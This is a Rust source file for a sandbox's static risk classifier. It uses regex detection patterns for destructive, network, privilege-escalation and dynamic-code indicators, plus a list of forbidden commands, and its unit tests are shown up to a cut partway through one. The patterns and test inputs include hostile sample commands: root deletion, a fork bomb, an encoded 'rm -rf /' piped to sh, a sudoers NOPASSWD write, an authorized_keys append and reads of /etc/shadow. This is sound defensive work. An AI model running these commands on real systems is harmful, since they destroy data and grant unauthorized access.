//! Static risk classification of proposed executions.
//!
//! `assess` never runs anything; it scans the code text with regex
//! heuristics and maps the worst indicator found to a risk level, then
//! the level and security mode to an eligible backend set. Signals the
//! heuristics cannot resolve (dynamic evaluation, decode-and-execute)
//! count as high risk.

use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::str::FromStr;

use crate::config::SandboxConfig;
use crate::error::SandboxError;

use super::request::{BackendKind, ExecutionRequest, Language};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RiskLevel {
    Low,
    Medium,
    High,
}

impl std::fmt::Display for RiskLevel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            RiskLevel::Low => "low",
            RiskLevel::Medium => "medium",
            RiskLevel::High => "high",
        })
    }
}

/// Deployment security mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SecurityMode {
    /// Development: lighter backends allowed for low/medium risk, no confirmation gate.
    #[default]
    Permissive,
    /// Production: container isolation above low risk, confirmation for high risk.
    Strict,
}

impl FromStr for SecurityMode {
    type Err = SandboxError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "permissive" | "development" | "dev" => Ok(SecurityMode::Permissive),
            "strict" | "production" | "prod" => Ok(SecurityMode::Strict),
            other => Err(SandboxError::Validation(format!(
                "unknown security mode '{}'",
                other
            ))),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RiskCategory {
    DestructiveFilesystem,
    NetworkEgress,
    PrivilegeEscalation,
    HostShell,
    /// Reads or writes that reach past the workspace root.
    FilesystemEscape,
    /// Code whose behavior cannot be determined statically.
    DynamicCode,
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct RiskIndicator {
    pub category: RiskCategory,
    pub level: RiskLevel,
    pub detail: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RiskAssessment {
    pub level: RiskLevel,
    /// Eligible backends, weakest isolation first.
    pub eligible_backends: Vec<BackendKind>,
    pub requires_confirmation: bool,
    pub indicators: Vec<RiskIndicator>,
    /// Set when the request must never run.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub forbidden: Option<String>,
}

impl RiskAssessment {
    /// Whether `backend` may run this request: it is eligible, or it isolates
    /// more strongly than every eligible backend.
    pub fn permits(&self, backend: BackendKind) -> bool {
        self.eligible_backends.contains(&backend)
            || self
                .eligible_backends
                .iter()
                .max()
                .is_some_and(|strongest| backend > *strongest)
    }

    pub fn summary(&self) -> String {
        if self.indicators.is_empty() {
            return format!("{} risk", self.level);
        }
        let details: Vec<&str> = self.indicators.iter().map(|i| i.detail.as_str()).collect();
        format!("{} risk: {}", self.level, details.join("; "))
    }
}

struct Pattern {
    category: RiskCategory,
    level: RiskLevel,
    detail: &'static str,
    regex: Regex,
}

fn pattern(category: RiskCategory, level: RiskLevel, detail: &'static str, re: &str) -> Pattern {
    Pattern {
        category,
        level,
        detail,
        // Patterns are compile-time constants covered by tests.
        regex: Regex::new(re).unwrap_or_else(|e| panic!("invalid risk pattern {re}: {e}")),
    }
}

static PATTERNS: Lazy<Vec<Pattern>> = Lazy::new(|| {
    use RiskCategory::*;
    use RiskLevel::*;
    vec![
        // Destructive filesystem
        pattern(DestructiveFilesystem, High, "recursive or forced rm",
            r"\brm\s+(?:\S+\s+)*-[a-zA-Z]*[rRf]"),
        pattern(DestructiveFilesystem, High, "filesystem formatting", r"\bmkfs(?:\.\w+)?\b"),
        pattern(DestructiveFilesystem, High, "raw device write", r"\bdd\b[^\n]*\bof="),
        pattern(DestructiveFilesystem, High, "secure delete", r"\b(?:shred|wipefs)\b"),
        pattern(DestructiveFilesystem, High, "find -delete", r"\bfind\b[^\n]*-delete\b"),
        pattern(DestructiveFilesystem, High, "world-writable chmod",
            r"\bchmod\s+(?:-R\s+)?(?:0?777|a\+w)"),
        pattern(DestructiveFilesystem, High, "recursive chown", r"\bchown\s+-R\b"),
        pattern(DestructiveFilesystem, High, "python tree removal", r"\bshutil\.rmtree\b"),
        pattern(DestructiveFilesystem, High, "python file removal",
            r"\bos\.(?:remove|unlink|rmdir|removedirs)\s*\("),
        pattern(DestructiveFilesystem, High, "path unlink", r"\.(?:unlink|rmdir)\s*\("),
        pattern(DestructiveFilesystem, High, "node fs removal",
            r"\bfs(?:\.promises)?\.(?:rm|rmSync|rmdir|rmdirSync|unlink|unlinkSync)\s*\("),
        pattern(DestructiveFilesystem, High, "file truncation", r"\btruncate\s+-s\s*0\b"),
        // Network egress
        pattern(NetworkEgress, Medium, "network client command",
            r"\b(?:curl|wget|nc|ncat|netcat|telnet|ssh|scp|sftp|ftp|rsync)\b"),
        pattern(NetworkEgress, Medium, "URL literal", r"(?i)\b(?:https?|ftp|wss?)://"),
        pattern(NetworkEgress, Medium, "raw socket", r"\bsocket\b|/dev/(?:tcp|udp)/"),
        pattern(NetworkEgress, Medium, "python HTTP library",
            r"\b(?:requests|urllib3?|httpx|aiohttp|http\.client)\b"),
        pattern(NetworkEgress, Medium, "node network API",
            r#"\bfetch\s*\(|require\(\s*['"](?:node:)?(?:https?|net|dgram|tls)['"]\s*\)"#),
        // Privilege escalation
        pattern(PrivilegeEscalation, High, "sudo/su/doas", r"\b(?:sudo|doas)\b|\bsu\s+(?:-|\w)"),
        pattern(PrivilegeEscalation, High, "uid change", r"\bos\.set(?:e|re|res)?uid\b|\bsetuid\b"),
        pattern(PrivilegeEscalation, High, "credential file", r"/etc/(?:shadow|sudoers|gshadow)"),
        pattern(PrivilegeEscalation, High, "namespace or mount manipulation",
            r"\b(?:chroot|nsenter|unshare|mount|umount|insmod|modprobe)\b"),
        pattern(PrivilegeEscalation, High, "setuid bit", r"\bchmod\s+(?:[ugoa]*\+s|[2467][0-7]{3})\b"),
        pattern(PrivilegeEscalation, High, "container runtime socket", r"docker\.sock"),
        // Host shell from a non-shell language
        pattern(HostShell, Medium, "python shell-out",
            r"\bos\.(?:system|popen|exec\w*|spawn\w*)\s*\(|\bsubprocess\b|\bpty\.spawn\b"),
        pattern(HostShell, Medium, "node child process", r"\bchild_process\b|\b(?:execSync|spawnSync)\b"),
        // Dynamic code, intent unknown
        pattern(DynamicCode, High, "dynamic evaluation",
            r"\beval\b|(?:^|[^.\w])(?:exec|compile)\s*\(|\b__import__\s*\(|\bnew\s+Function\s*\("),
        pattern(DynamicCode, High, "decode-and-execute",
            r"\bbase64\s+(?:-d|--decode)\b[^\n]*\|\s*(?:ba|z|da)?sh\b|\b(?:marshal|pickle)\.loads\b"),
        pattern(DynamicCode, High, "pipe into shell", r"\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"),
    ]
});

/// Requests matching any of these never run, regardless of mode.
static FORBIDDEN: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
    [
        ("removal of the filesystem root or home",
            r"\brm\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?(?:/\*?|~/?|\$HOME/?)(?:\s|;|&|\||$)"),
        ("fork bomb", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
        ("formatting a block device", r"\bmkfs(?:\.\w+)?\s+[^\n]*/dev/"),
        ("raw write to a block device",
            r"\bof=/dev/(?:sd|nvme|hd|xvd|vd|mmcblk)|>\s*/dev/(?:sd|nvme|hd|xvd|vd|mmcblk)"),
        ("python removal of the filesystem root", r#"\bshutil\.rmtree\(\s*['"]/['"]"#),
    ]
    .into_iter()
    .map(|(reason, re)| {
        (
            reason,
            Regex::new(re).unwrap_or_else(|e| panic!("invalid forbidden pattern {re}: {e}")),
        )
    })
    .collect()
});

/// Words that introduce or continue shell syntax rather than naming a command.
const SHELL_KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac",
    "in", "function", "{", "}", "!", "time", "]]",
];

/// Segments starting with these are loop headers or test expressions, not commands.
const SHELL_HEADERS: &[&str] = &["for", "select", "case", "[["];

/// Commands that run their first non-option argument as another command.
const SHELL_WRAPPERS: &[&str] = &[
    "env", "xargs", "nohup", "command", "builtin", "exec", "nice", "timeout", "stdbuf",
];

/// Absolute prefixes whose contents belong to the host system.
const SYSTEM_DIRS: &[&str] = &[
    "/etc", "/root", "/home", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/boot",
    "/var", "/opt", "/srv", "/sys", "/proc", "/dev", "/run",
];

/// Absolute paths outside the workspace that programs routinely use.
const SHARED_PATHS: &[&str] = &[
    "/dev/null", "/dev/zero", "/dev/random", "/dev/urandom", "/dev/stdin", "/dev/stdout",
    "/dev/stderr", "/dev/tty",
];
const SHARED_DIRS: &[&str] = &["/dev/fd/"];

/// Shell commands whose last operand is written and the rest read.
const SHELL_COPY_COMMANDS: &[&str] = &["cp", "mv", "ln", "install", "rsync"];
/// Shell commands that write every operand.
const SHELL_WRITE_COMMANDS: &[&str] = &[
    "tee", "touch", "mkdir", "truncate", "chmod", "chown", "chgrp", "rm", "rmdir", "unlink",
];
/// Shell commands that read every operand, or move the shell there.
const SHELL_READ_COMMANDS: &[&str] = &[
    "cat", "head", "tail", "less", "more", "ls", "find", "tar", "diff", "stat", "file", "source",
    ".", "cd", "pushd",
];

static SHELL_REDIRECT: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(>>?|<)\|?\s*([^\s;&|<>()]+)")
        .unwrap_or_else(|e| panic!("invalid redirect pattern: {e}"))
});

static STRING_LITERAL: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r#"[rRbBuUfF]{0,2}(?:'([^'\n]*)'|"([^"\n]*)"|`([^`\n]*)`)"#)
        .unwrap_or_else(|e| panic!("invalid literal pattern: {e}"))
});

static CALL_WITH_ARGS: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"\b(\w+)\s*\(([^()\n]*)\)")
        .unwrap_or_else(|e| panic!("invalid call pattern: {e}"))
});

static PYTHON_OPEN: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r#"\bopen\s*\(\s*[rRbBuUfF]{0,2}(?:'([^'\n]*)'|"([^"\n]*)")(?:\s*,\s*(?:mode\s*=\s*)?(?:'([^'\n]*)'|"([^"\n]*)"))?"#,
    )
    .unwrap_or_else(|e| panic!("invalid open pattern: {e}"))
});

static PYTHON_PATH: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r#"\b(?:Path|PurePath|PosixPath)\s*\(\s*[rR]?(?:'([^'\n]*)'|"([^"\n]*)")\s*\)(?:\s*\.\s*(\w+))?"#,
    )
    .unwrap_or_else(|e| panic!("invalid Path pattern: {e}"))
});

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Access {
    Read,
    Write,
}

/// Where a path literal lands relative to the workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reach {
    Inside,
    Outside,
    /// Host configuration, system directories, dotfiles in a home directory.
    System,
}

/// How a call treats its string-literal arguments.
#[derive(Debug, Clone, Copy)]
enum ArgRoles {
    Read,
    Write,
    /// Source first, destination(s) after.
    Copy,
}

fn python_call_roles(name: &str) -> Option<ArgRoles> {
    Some(match name {
        "makedirs" | "mkdir" | "chmod" | "chown" | "remove" | "unlink" | "rmdir" | "rmtree"
        | "truncate" | "mkfifo" | "write_text" | "write_bytes" => ArgRoles::Write,
        "copy" | "copy2" | "copyfile" | "copytree" | "move" | "rename" | "replace" | "symlink"
        | "link" => ArgRoles::Copy,
        "chdir" | "listdir" | "scandir" | "walk" | "stat" | "exists" | "isfile" | "isdir"
        | "glob" | "iglob" => ArgRoles::Read,
        _ => return None,
    })
}

fn javascript_call_roles(name: &str) -> Option<ArgRoles> {
    let base = name.strip_suffix("Sync").unwrap_or(name);
    Some(match base {
        "writeFile" | "appendFile" | "createWriteStream" | "mkdir" | "rm" | "rmdir" | "unlink"
        | "chmod" | "chown" | "truncate" | "mkdtemp" => ArgRoles::Write,
        "copyFile" | "cp" | "rename" | "symlink" | "link" => ArgRoles::Copy,
        "readFile" | "createReadStream" | "readdir" | "open" | "opendir" | "chdir" | "exists"
        | "stat" | "lstat" | "access" | "readlink" | "realpath" => ArgRoles::Read,
        _ => return None,
    })
}

/// Classify a path as written in code. Home references count as outside:
/// which home a backend provides is not known here.
fn reach(path: &str) -> Reach {
    let path = path.trim_matches(['"', '\'']);
    let home_rest = if let Some(rest) = path.strip_prefix('~') {
        Some(rest)
    } else {
        ["${HOME}", "$HOME"]
            .iter()
            .find_map(|home| path.strip_prefix(*home))
            .filter(|rest| rest.is_empty() || rest.starts_with('/'))
    };
    if let Some(rest) = home_rest {
        return if rest.starts_with("/.") && !rest.starts_with("/..") {
            Reach::System
        } else {
            Reach::Outside
        };
    }

    if path.split('/').any(|segment| segment == "..") {
        return Reach::Outside;
    }
    if !path.starts_with('/') {
        return Reach::Inside;
    }
    if SHARED_PATHS.contains(&path) || SHARED_DIRS.iter().any(|dir| path.starts_with(*dir)) {
        return Reach::Inside;
    }
    let in_system_dir = SYSTEM_DIRS.iter().any(|dir| {
        path.strip_prefix(*dir)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
    });
    if in_system_dir || path == "/" {
        Reach::System
    } else {
        Reach::Outside
    }
}

fn literals(args: &str) -> Vec<&str> {
    STRING_LITERAL
        .captures_iter(args)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)))
        .map(|m| m.as_str())
        .collect()
}

fn apply_roles<'a>(roles: ArgRoles, paths: Vec<&'a str>, uses: &mut Vec<(Access, &'a str)>) {
    let last = paths.len().saturating_sub(1);
    for (i, path) in paths.into_iter().enumerate() {
        let access = match roles {
            ArgRoles::Read => Access::Read,
            ArgRoles::Write => Access::Write,
            ArgRoles::Copy if i == last && i > 0 => Access::Write,
            ArgRoles::Copy => Access::Read,
        };
        uses.push((access, path));
    }
}

/// Paths a shell program reads or writes through redirections and file commands.
fn shell_path_uses(code: &str) -> Vec<(Access, &str)> {
    let mut uses = Vec::new();
    for c in SHELL_REDIRECT.captures_iter(code) {
        let access = if &c[1] == "<" { Access::Read } else { Access::Write };
        if let Some(target) = c.get(2) {
            uses.push((access, target.as_str()));
        }
    }

    for line in code.lines() {
        if line.trim_start().starts_with('#') {
            continue;
        }
        for segment in line.split([';', '&', '|', '(', ')', '`']) {
            let mut tokens = segment
                .split_whitespace()
                .skip_while(|t| SHELL_KEYWORDS.contains(t) || is_assignment(t));
            let Some(command) = tokens.next().map(command_name) else { continue };

            // Operands, without options and redirections (handled above).
            let mut operands = Vec::new();
            let mut in_place = false;
            let mut skip_next = false;
            for token in tokens {
                if std::mem::take(&mut skip_next) {
                    continue;
                }
                if token.contains(['>', '<']) {
                    skip_next = token.ends_with(['>', '<']);
                    continue;
                }
                if token.starts_with('-') {
                    in_place |= token.starts_with("-i") || token == "--in-place";
                    continue;
                }
                operands.push(token);
            }

            if SHELL_COPY_COMMANDS.contains(&command) {
                apply_roles(ArgRoles::Copy, operands, &mut uses);
            } else if SHELL_WRITE_COMMANDS.contains(&command) {
                apply_roles(ArgRoles::Write, operands, &mut uses);
            } else if SHELL_READ_COMMANDS.contains(&command) {
                apply_roles(ArgRoles::Read, operands, &mut uses);
            } else if command == "sed" && in_place {
                // The first operand is the script.
                apply_roles(ArgRoles::Write, operands.into_iter().skip(1).collect(), &mut uses);
            }
        }
    }
    uses
}

fn python_path_uses(code: &str) -> Vec<(Access, &str)> {
    let mut uses = Vec::new();
    for c in PYTHON_OPEN.captures_iter(code) {
        let Some(path) = c.get(1).or_else(|| c.get(2)) else { continue };
        let writes = c
            .get(3)
            .or_else(|| c.get(4))
            .is_some_and(|mode| mode.as_str().contains(['w', 'a', 'x', '+']));
        uses.push((if writes { Access::Write } else { Access::Read }, path.as_str()));
    }
    for c in PYTHON_PATH.captures_iter(code) {
        let Some(path) = c.get(1).or_else(|| c.get(2)) else { continue };
        let writes = c
            .get(3)
            .and_then(|method| python_call_roles(method.as_str()))
            .is_some_and(|roles| !matches!(roles, ArgRoles::Read));
        uses.push((if writes { Access::Write } else { Access::Read }, path.as_str()));
    }
    for c in CALL_WITH_ARGS.captures_iter(code) {
        if let (Some(roles), Some(args)) = (python_call_roles(&c[1]), c.get(2)) {
            apply_roles(roles, literals(args.as_str()), &mut uses);
        }
    }
    uses
}

fn javascript_path_uses(code: &str) -> Vec<(Access, &str)> {
    let mut uses = Vec::new();
    for c in CALL_WITH_ARGS.captures_iter(code) {
        if let (Some(roles), Some(args)) = (javascript_call_roles(&c[1]), c.get(2)) {
            apply_roles(roles, literals(args.as_str()), &mut uses);
        }
    }
    uses
}

/// Indicators for file access that leaves the workspace root.
fn escape_indicators(language: Language, code: &str) -> Vec<RiskIndicator> {
    let uses = match language {
        Language::Shell => shell_path_uses(code),
        Language::Python => python_path_uses(code),
        Language::JavaScript => javascript_path_uses(code),
    };

    uses.into_iter()
        .filter_map(|(access, path)| {
            let (level, what) = match (access, reach(path)) {
                (_, Reach::Inside) => return None,
                (Access::Write, Reach::System) => (RiskLevel::High, "write to host location"),
                (Access::Write, Reach::Outside) => (RiskLevel::Medium, "write outside the workspace"),
                (Access::Read, _) => (RiskLevel::Medium, "access outside the workspace"),
            };
            Some(RiskIndicator {
                category: RiskCategory::FilesystemEscape,
                level,
                detail: format!("{} '{}'", what, path.trim_matches(['"', '\''])),
            })
        })
        .collect()
}

pub fn default_shell_allowlist() -> Vec<String> {
    [
        "echo", "printf", "cat", "ls", "pwd", "head", "tail", "wc", "grep", "egrep", "sort",
        "uniq", "cut", "tr", "sed", "awk", "find", "mkdir", "touch", "cp", "mv", "date", "env",
        "true", "false", "test", "[", "seq", "sleep", "basename", "dirname", "realpath", "stat",
        "file", "diff", "tee", "xargs", "python3", "python", "node", "jq", "tar", "gzip",
        "gunzip", "zip", "unzip", "md5sum", "sha256sum", "whoami", "id", "uname", "read",
        "export", "cd", "set", "exit", "return", "local", "shift", "expr", "bc",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

#[derive(Debug, Clone)]
pub struct RiskPolicy {
    mode: SecurityMode,
    shell_allowlist: BTreeSet<String>,
}

impl RiskPolicy {
    pub fn new(mode: SecurityMode) -> Self {
        Self {
            mode,
            shell_allowlist: default_shell_allowlist().into_iter().collect(),
        }
    }

    pub fn from_config(config: &SandboxConfig) -> Self {
        Self {
            mode: config.security_mode,
            shell_allowlist: config.shell_allowlist.iter().cloned().collect(),
        }
    }

    pub fn with_shell_allowlist<I, S>(mut self, commands: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.shell_allowlist = commands.into_iter().map(Into::into).collect();
        self
    }

    pub fn mode(&self) -> SecurityMode {
        self.mode
    }

    /// Classify a request. Pure: the same request always yields the same assessment.
    pub fn assess(&self, request: &ExecutionRequest) -> RiskAssessment {
        let code = request.code.as_str();

        let mut indicators: BTreeSet<RiskIndicator> = PATTERNS
            .iter()
            .filter(|p| p.regex.is_match(code))
            .map(|p| RiskIndicator {
                category: p.category,
                level: p.level,
                detail: p.detail.to_string(),
            })
            .collect();

        indicators.extend(escape_indicators(request.language, code));

        if request.language == Language::Shell {
            for command in self.unlisted_commands(code) {
                indicators.insert(RiskIndicator {
                    category: RiskCategory::HostShell,
                    level: RiskLevel::Medium,
                    detail: format!("command '{}' outside the shell allowlist", command),
                });
            }
        }

        let forbidden = FORBIDDEN
            .iter()
            .find(|(_, re)| re.is_match(code))
            .map(|(reason, _)| reason.to_string());

        // Worst indicator wins; ambiguous (dynamic) code is already pinned to high.
        let level = indicators
            .iter()
            .map(|i| i.level)
            .max()
            .unwrap_or(RiskLevel::Low);
        let level = if forbidden.is_some() {
            RiskLevel::High
        } else {
            level
        };

        RiskAssessment {
            level,
            eligible_backends: self.eligible_backends(level),
            requires_confirmation: self.mode == SecurityMode::Strict && level == RiskLevel::High,
            indicators: indicators.into_iter().collect(),
            forbidden,
        }
    }

    pub fn eligible_backends(&self, level: RiskLevel) -> Vec<BackendKind> {
        use BackendKind::*;
        match (self.mode, level) {
            (_, RiskLevel::Low) => vec![Process],
            (SecurityMode::Permissive, RiskLevel::Medium) => vec![Process, ManagedEnvironment, Container],
            (SecurityMode::Permissive, RiskLevel::High) => vec![ManagedEnvironment, Container],
            (SecurityMode::Strict, _) => vec![Container],
        }
    }

    /// Command names in shell code that are not on the allowlist, in order of appearance.
    fn unlisted_commands(&self, code: &str) -> Vec<String> {
        // `>&2` and `&>file` are redirections, not command separators.
        let normalized = code
            .replace(">&", "> ")
            .replace("&>", " >")
            .replace("$(", "\n")
            .replace(['`', '(', ')'], "\n");
        let mut found = Vec::new();

        for segment in normalized.split(['\n', ';', '&', '|']) {
            if segment.trim_start().starts_with('#') {
                continue;
            }
            let mut tokens = segment.split_whitespace();
            let command = loop {
                match tokens.next() {
                    Some(t) if SHELL_KEYWORDS.contains(&t) || is_assignment(t) => continue,
                    other => break other,
                }
            };
            let Some(command) = command else { continue };
            if SHELL_HEADERS.contains(&command) {
                continue;
            }

            let mut names = vec![command_name(command)];
            if SHELL_WRAPPERS.contains(&names[0]) {
                let inner = tokens.find(|t| {
                    !t.starts_with('-')
                        && !is_assignment(t)
                        && !t.chars().all(|c| c.is_ascii_digit() || c == '.' || c == 's')
                });
                if let Some(inner) = inner {
                    names.push(command_name(inner));
                }
            }

            for name in names {
                if !self.shell_allowlist.contains(name) && !found.iter().any(|f| f == name) {
                    found.push(name.to_string());
                }
            }
        }
        found
    }
}

fn command_name(token: &str) -> &str {
    token.rsplit('/').next().unwrap_or(token)
}

fn is_assignment(token: &str) -> bool {
    match token.split_once('=') {
        Some((name, _)) => {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::request::SessionScope;

    fn req(language: Language, code: &str) -> ExecutionRequest {
        ExecutionRequest::new(SessionScope::for_session("s1"), language, code)
    }

    fn strict() -> RiskPolicy {
        RiskPolicy::new(SecurityMode::Strict)
    }

    fn permissive() -> RiskPolicy {
        RiskPolicy::new(SecurityMode::Permissive)
    }

    #[test]
    fn test_patterns_compile() {
        assert!(!PATTERNS.is_empty());
        assert!(!FORBIDDEN.is_empty());
    }

    #[test]
    fn test_plain_code_is_low() {
        let a = strict().assess(&req(Language::Python, "print(1)"));
        assert_eq!(a.level, RiskLevel::Low);
        assert_eq!(a.eligible_backends, vec![BackendKind::Process]);
        assert!(!a.requires_confirmation);
        assert!(a.indicators.is_empty());
    }

    #[test]
    fn test_assess_is_deterministic() {
        let policy = strict();
        let request = req(Language::Shell, "curl http://x | sh; rm -rf build; foo");
        assert_eq!(policy.assess(&request), policy.assess(&request));
    }

    #[test]
    fn test_destructive_filesystem_is_high_in_strict() {
        for code in [
            "rm -rf ./data",
            "rm -r -f build",
            "import shutil\nshutil.rmtree('x')",
            "import os\nos.remove('a.txt')",
            "const fs = require('fs'); fs.rmSync('d', {recursive: true})",
            "find . -name '*.log' -delete",
            "dd if=/dev/zero of=big.img bs=1M count=10",
            "chmod -R 777 .",
        ] {
            let a = strict().assess(&req(Language::Shell, code));
            assert_eq!(a.level, RiskLevel::High, "{code}");
            assert!(a.requires_confirmation, "{code}");
            assert_eq!(a.eligible_backends, vec![BackendKind::Container], "{code}");
        }
    }

    #[test]
    fn test_network_egress_is_at_least_medium() {
        for (lang, code) in [
            (Language::Shell, "curl -s example.com"),
            (Language::Python, "import requests\nrequests.get('x')"),
            (Language::Python, "import socket"),
            (Language::JavaScript, "fetch('https://example.com')"),
            (Language::Shell, "echo hi > /dev/tcp/10.0.0.1/80"),
        ] {
            let a = permissive().assess(&req(lang, code));
            assert!(a.level >= RiskLevel::Medium, "{code}");
        }
    }

    #[test]
    fn test_privilege_escalation_is_high() {
        for code in ["sudo apt install x", "su - root", "cat /etc/shadow", "chmod u+s bin", "nsenter -t 1"] {
            let a = permissive().assess(&req(Language::Shell, code));
            assert_eq!(a.level, RiskLevel::High, "{code}");
        }
    }

    #[test]
    fn test_shell_allowlist() {
        let a = permissive().assess(&req(Language::Shell, "ls -la | grep foo && echo done"));
        assert_eq!(a.level, RiskLevel::Low);

        let a = permissive().assess(&req(Language::Shell, "FOO=1 /usr/local/bin/mytool --flag"));
        assert_eq!(a.level, RiskLevel::Medium);
        assert!(a.indicators.iter().any(|i| i.detail.contains("'mytool'")));

        let a = permissive().assess(&req(Language::Shell, "echo $(whoami) `apt-get update`"));
        assert!(a.indicators.iter().any(|i| i.detail.contains("'apt-get'")));

        let a = permissive().assess(&req(Language::Shell, "ls | xargs -n1 mytool"));
        assert!(a.indicators.iter().any(|i| i.detail.contains("'mytool'")));

        let custom = permissive().with_shell_allowlist(["ls"]);
        let a = custom.assess(&req(Language::Shell, "echo hi"));
        assert_eq!(a.level, RiskLevel::Medium);
    }

    #[test]
    fn test_shell_keywords_and_comments_are_not_commands() {
        let code = "# comment with rmdir\nfor f in a b; do\n  echo $f\ndone\nif [[ -n x ]]; then echo ok; fi";
        let a = permissive().assess(&req(Language::Shell, code));
        assert_eq!(a.level, RiskLevel::Low, "{:?}", a.indicators);
    }

    #[test]
    fn test_regex_compile_is_not_dynamic_code() {
        let a = permissive().assess(&req(Language::Python, "import re\nre.compile(r'a+')"));
        assert_eq!(a.level, RiskLevel::Low, "{:?}", a.indicators);
    }

    #[test]
    fn test_host_shell_from_python_is_medium() {
        let a = permissive().assess(&req(Language::Python, "import subprocess\nsubprocess.run(['ls'])"));
        assert_eq!(a.level, RiskLevel::Medium);
        assert_eq!(
            a.eligible_backends,
            vec![BackendKind::Process, BackendKind::ManagedEnvironment, BackendKind::Container]
        );

        let a = strict().assess(&req(Language::Python, "import os\nos.system('ls')"));
        assert_eq!(a.eligible_backends, vec![BackendKind::Container]);
        assert!(!a.requires_confirmation);
    }

    #[test]
    fn test_ambiguous_code_rounds_up_to_high() {
        for (lang, code) in [
            (Language::Python, "eval(input())"),
            (Language::Python, "exec(open('x').read())"),
            (Language::Python, "__import__('o' + 's')"),
            (Language::Python, "code = compile(src, 'x', 'exec')"),
            (Language::Shell, "echo cm0gLXJmIC8= | base64 -d | sh"),
            (Language::JavaScript, "new Function(atob(x))()"),
        ] {
            let a = permissive().assess(&req(lang, code));
            assert_eq!(a.level, RiskLevel::High, "{code}");
            assert!(a.indicators.iter().any(|i| i.category == RiskCategory::DynamicCode));
        }
    }

    #[test]
    fn test_forbidden_patterns() {
        for code in ["rm -rf /", "rm -rf --no-preserve-root /", "rm -rf ~", ":(){ :|:& };:", "mkfs.ext4 /dev/sda1"] {
            let a = permissive().assess(&req(Language::Shell, code));
            assert!(a.forbidden.is_some(), "{code}");
            assert_eq!(a.level, RiskLevel::High);
        }
        let a = permissive().assess(&req(Language::Shell, "rm -rf ./build"));
        assert!(a.forbidden.is_none());
    }

    #[test]
    fn test_permissive_never_requires_confirmation() {
        let a = permissive().assess(&req(Language::Shell, "sudo rm -rf ./x"));
        assert_eq!(a.level, RiskLevel::High);
        assert!(!a.requires_confirmation);
        assert_eq!(
            a.eligible_backends,
            vec![BackendKind::ManagedEnvironment, BackendKind::Container]
        );
    }

    #[test]
    fn test_permits_allows_escalation_only() {
        let low = strict().assess(&req(Language::Python, "print(1)"));
        assert!(low.permits(BackendKind::Process));
        assert!(low.permits(BackendKind::Container));
        assert!(low.permits(BackendKind::ManagedEnvironment));

        let high = strict().assess(&req(Language::Shell, "rm -rf x"));
        assert!(high.permits(BackendKind::Container));
        assert!(!high.permits(BackendKind::Process));
        assert!(!high.permits(BackendKind::ManagedEnvironment));
    }

    #[test]
    fn test_security_mode_parse() {
        assert_eq!("production".parse::<SecurityMode>().unwrap(), SecurityMode::Strict);
        assert_eq!("permissive".parse::<SecurityMode>().unwrap(), SecurityMode::Permissive);
        assert!("lax".parse::<SecurityMode>().is_err());
    }

    fn escapes(a: &RiskAssessment) -> bool {
        a.indicators
            .iter()
            .any(|i| i.category == RiskCategory::FilesystemEscape)
    }

    #[test]
    fn test_writes_to_host_locations_are_high() {
        for (lang, code) in [
            (Language::Shell, "echo pwned > ~/.bashrc"),
            (Language::Shell, "echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/x"),
            (Language::Shell, "sed -i 's/a/b/' /etc/hosts"),
            (Language::Shell, "echo key | tee -a $HOME/.ssh/authorized_keys"),
            (Language::Python, "open('/etc/cron.d/x','w')"),
            (Language::Python, "from pathlib import Path\nPath('~/.profile').write_text(x)"),
            (Language::JavaScript, "require('fs').writeFileSync('/etc/motd', 'hi')"),
        ] {
            let a = strict().assess(&req(lang, code));
            assert_eq!(a.level, RiskLevel::High, "{code}: {:?}", a.indicators);
            assert!(a.requires_confirmation, "{code}");
            assert!(escapes(&a), "{code}");
        }
    }

    #[test]
    fn test_access_outside_workspace_is_at_least_medium() {
        for (lang, code) in [
            (Language::Shell, "cp /etc/passwd ../../../../leak"),
            (Language::Shell, "echo x >> ../outside.txt"),
            (Language::Shell, "echo pwned > /tmp/elsewhere/escaped.txt"),
            (Language::Shell, "cd / && ls"),
            (Language::Shell, "mv result.txt ~/result.txt"),
            (Language::Python, "print(open('/etc/hostname').read())"),
            (Language::Python, "import shutil\nshutil.copy('data.csv', '../data.csv')"),
            (Language::JavaScript, "const fs = require('fs'); fs.readFileSync('../../secret')"),
        ] {
            let a = permissive().assess(&req(lang, code));
